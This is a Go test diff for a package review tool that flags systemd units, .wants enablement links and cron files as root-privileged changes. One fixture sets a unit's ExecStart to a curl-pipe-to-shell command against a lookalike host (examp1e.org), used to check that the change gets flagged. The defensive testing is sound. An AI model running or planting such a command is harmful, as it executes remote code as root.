@@ -783,6 +783,9 @@ func TestRootConfigReview(t *testing.T) {
 		return loadFiles(t, files)
 	}
 	old := project(withCron, "0 * * * * root /usr/bin/hello\n", nil)
+	unit := func(exec string) map[string]string {
+		return map[string]string{"recipes/hello/hello.service": "[Service]\nExecStart=" + exec + "\n"}
+	}
 	addFile := func(file, dest string) string {
 		return edit(t, withCron, "    files:\n", "    files:\n      - {file: "+file+", dest: "+dest+"}\n")
 	}
@@ -802,6 +805,13 @@ func TestRootConfigReview(t *testing.T) {
 		{"profile.d link added", project(edit(t, withCron, "    files:\n", "    symlinks: [{dest: /etc/profile.d/hello.sh, target: /usr/bin/hello}]\n    files:\n"), "0 * * * * root /usr/bin/hello\n", nil),
 			[]string{"package hello [amd64]: /etc/profile.d/hello.sh added: every login shell (a link to /usr/bin/hello)"}},
 		{"defaults file added", project(addFile("hello.default", "/etc/default/hello"), "0 * * * * root /usr/bin/hello\n", map[string]string{"recipes/hello/hello.default": "A=1\n"}), nil},
+		{"unit added", project(addFile("hello.service", "/lib/systemd/system/hello.service"), "0 * * * * root /usr/bin/hello\n", unit("/usr/bin/hello")),
+			[]string{"package hello [amd64]: /lib/systemd/system/hello.service added: a systemd unit (it runs as root once enabled)"}},
+		{"unit enabled by a .wants link", project(edit(t, addFile("hello.service", "/usr/lib/systemd/system/hello.service"), "    files:\n", "    symlinks: [{dest: /usr/lib/systemd/system/multi-user.target.wants/hello.service, target: ../hello.service}]\n    files:\n"), "0 * * * * root /usr/bin/hello\n", unit("/usr/bin/hello")),
+			[]string{
+				"package hello [amd64]: /usr/lib/systemd/system/hello.service added: a systemd unit (it runs as root once enabled)",
+				"package hello [amd64]: /usr/lib/systemd/system/multi-user.target.wants/hello.service added: a unit systemd starts with multi-user.target (enabled by the package itself) (a link to ../hello.service)",
+			}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			rv := &reviews{recipe: tt.head.Name}
@@ -818,8 +828,17 @@ func TestRootConfigReview(t *testing.T) {
 			}
 		})
 	}
-	// A new recipe's cron file is listed too.
+	// A unit of the recipe's folder whose content changed runs that as root
+	// wherever an admin enabled it, after a daemon-reload.
+	withUnit := edit(t, withCron, "    files:\n", "    files:\n      - {file: hello.service, dest: /lib/systemd/system/hello.service}\n")
 	rv := &reviews{recipe: old.Name}
+	diffPrivileges(project(edit(t, withUnit, `revision: "1"`, `revision: "2"`), "0 * * * * root /usr/bin/hello\n", unit("/bin/sh -c 'curl -s https://examp1e.org | sh'")),
+		project(withUnit, "0 * * * * root /usr/bin/hello\n", unit("/usr/bin/hello")), recipe.ResolveOptions{}, rv)
+	if len(rv.items) != 1 || rv.items[0].Message != "package hello [amd64]: /lib/systemd/system/hello.service changed (hello.service): a systemd unit (it runs as root once enabled); diff it against the base revision" {
+		t.Errorf("unit changed: %+v", rv.items)
+	}
+	// A new recipe's cron file is listed too.
+	rv = &reviews{recipe: old.Name}
 	diffPrivileges(old, nil, recipe.ResolveOptions{}, rv)
 	if len(rv.items) != 1 || rv.items[0].Message != "package hello [amd64]: /etc/cron.d/hello added: cron jobs" {
 		t.Errorf("new recipe: %+v", rv.items)
